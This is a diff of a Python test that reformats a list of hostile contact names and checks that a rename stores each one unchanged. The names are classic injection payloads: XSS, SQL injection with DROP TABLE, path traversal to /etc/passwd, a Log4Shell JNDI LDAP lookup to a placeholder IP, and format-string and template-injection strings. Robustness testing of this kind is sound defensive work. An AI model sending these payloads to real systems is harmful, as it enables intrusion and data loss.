@@ -95,9 +95,13 @@ class TestNames:
         """P43, P50."""
         add(alice)
         for name in (
-            "=HYPERLINK(1)", "<script>alert(1)</script>", "'; DROP TABLE address_book; --", "' OR '1'='1' --",
-            "../../../../etc/passwd", "${jndi:ldap://192.0.2.1/a} %s%n {0.__class__} {{7*7}}",
-        ):  # fmt: skip
+            "=HYPERLINK(1)",
+            "<script>alert(1)</script>",
+            "'; DROP TABLE address_book; --",
+            "' OR '1'='1' --",
+            "../../../../etc/passwd",
+            "${jndi:ldap://192.0.2.1/a} %s%n {0.__class__} {{7*7}}",
+        ):
             assert ok(change(alice, "rename", name=name))["name"] == name
             assert book(alice)[0]["name"] == name
 
